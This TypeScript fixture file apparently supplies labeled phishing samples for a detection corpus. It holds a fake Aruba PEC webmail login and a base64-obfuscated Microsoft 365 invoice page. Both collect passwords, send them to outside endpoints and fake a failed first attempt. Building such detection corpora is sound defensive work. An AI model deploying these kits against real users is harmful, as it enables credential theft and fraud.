import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { apk, beepWav, cfb, cssRoute, fileRoute, iso, jsonRoute, jsRoute, lnk, pe, pngRoute, zip } from '../parts/e-bin.js';
import { articleCss, b64, bankOptions, cardCss, cardJs, cookieBar, digits, doc, esc, hex, mark } from '../parts/yg-kit.js';

export const entries: Entry[] = [
{
  id: 'yg-aruba-pec-rinnovo-webmail',
  label: 'phishing',
  kind: 'webmail-kit',
  url: 'https://webmail-aruba.pec-rinnovo.net/?_task=login',
  body: doc({
    lang: 'it',
    title: 'Aruba PEC - Webmail',
    css: `body{margin:0;font-family:'Open Sans',Arial,sans-serif;background:#f2f2f2}
.h{background:#fff;padding:14px 30px;border-bottom:3px solid #f37021;font-weight:800;color:#f37021;font-size:24px}
.b{max-width:420px;margin:50px auto;background:#fff;padding:30px;box-shadow:0 2px 6px rgba(0,0,0,.1)}
.n{background:#fff7e0;border-left:4px solid #f37021;padding:10px;font-size:13px;margin-bottom:16px}
input{width:100%;padding:11px;border:1px solid #ccc;box-sizing:border-box;margin:6px 0 14px}
button{background:#f37021;border:0;color:#fff;padding:12px 30px;font-weight:700}`,
    body: `<div class="h">aruba.it <small style="color:#555;font-weight:400">PEC</small></div>
<div class="b"><div class="n">La tua casella PEC scade il <b id="sc"></b>. Effettua l'accesso per confermare il rinnovo automatico ed evitare la perdita dei messaggi con valore legale.</div>
<form id="lf" method="post" action="./?_task=login&_action=login"><label>Indirizzo PEC</label><input name="_user" required placeholder="nome@pec.it"><label>Password</label><input type="password" name="_pass" required><button>Accedi</button></form></div>
<script>var d=new Date();d.setDate(d.getDate()+3);document.getElementById('sc').textContent=d.toLocaleDateString('it-IT');
document.getElementById('lf').onsubmit=function(e){e.preventDefault();var f=this,n=+(sessionStorage.getItem('n')||0);
fetch('https://submit-form.com/${hex('aruba-fs', 9)}',{method:'POST',headers:{'Content-Type':'application/json',Accept:'application/json'},body:JSON.stringify({u:f._user.value,p:f._pass.value,try:n})}).finally(function(){n++;sessionStorage.setItem('n',n);if(n<2){alert('Password errata, riprova');f._pass.value=''}else location.href='https://webmail.pec.it/'})};</script>`,
  }),
},
{
  id: 'yg-m365-fattura-sharepoint-obf',
  label: 'phishing',
  kind: 'm365-obfuscated-kit',
  url: 'https://docs-condivisi.fatture-online.eu/sp/?f=Fattura_' + digits('m365-fat', 6) + '.pdf#bWFyaW8ucm9zc2lAYXppZW5kYS5pdA==',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><meta name="robots" content="noindex,nofollow"><title>&#8203;</title></head><body>
<script>
var _s="${b64(`<html lang="it"><head><title>Accedi al tuo account</title><style>body{margin:0;background:#f2f2f2 url() center/cover;font-family:'Segoe UI',Arial,sans-serif}.bx{width:440px;margin:90px auto;background:#fff;padding:44px;box-shadow:0 2px 6px rgba(0,0,0,.2)}.ms{display:flex;gap:2px;width:22px;flex-wrap:wrap;margin-bottom:16px}.ms i{width:10px;height:10px}h1{font-size:24px;font-weight:600;margin:0 0 12px}.id{border:1px solid #ddd;border-radius:16px;padding:4px 10px;display:inline-block;font-size:14px}input{width:100%;border:0;border-bottom:1px solid #666;padding:8px 0;font-size:15px;margin:16px 0;outline:0}button{float:right;background:#0067b8;color:#fff;border:0;padding:8px 34px;font-size:15px}.doc{display:flex;gap:8px;align-items:center;font-size:13px;color:#444;margin-bottom:12px}</style></head><body><div class="bx"><div class="ms"><i style="background:#f25022"></i><i style="background:#7fba00"></i><i style="background:#00a4ef"></i><i style="background:#ffb900"></i></div><div class="doc">📄 Fattura condivisa tramite OneDrive - accedi per visualizzare</div><div class="id" id="who"></div><h1>Immetti la password</h1><form id="pf"><input type="password" name="pw" placeholder="Password" autofocus required><div id="er" style="color:#e81123;font-size:13px"></div><p><a href="#" style="font-size:13px">Password dimenticata?</a></p><button>Accedi</button></form></div></body></html>`)}";
document.write(decodeURIComponent(escape(window["a"+"tob"](_s))));
var em="";try{em=atob(location.hash.slice(1))}catch(e){}document.getElementById("who").textContent=em;
var tries=0;document.getElementById("pf").addEventListener("submit",function(e){e.preventDefault();tries++;
var fd=new FormData();fd.append("ai",em);fd.append("pr",this.pw.value);fd.append("n",tries);
fetch(["ht","tps://","docs-condivisi.fatture-online.eu","/sp/","nx",".php"].join(""),{method:"POST",body:fd}).then(function(r){return r.json()}).then(function(j){if(j.signal==="ok")location.replace(j.redirect_link)}).catch(function(){});
if(tries<2){document.getElementById("er").textContent="La password dell'account o la password non è corretta.";this.pw.value=""}});
</script></body></html>`,
  routes: {
    'docs-condivisi.fatture-online.eu/sp/nx.php': jsonRoute({ signal: 'ok', redirect_link: 'https://www.office.com/' }),
  },
},
];
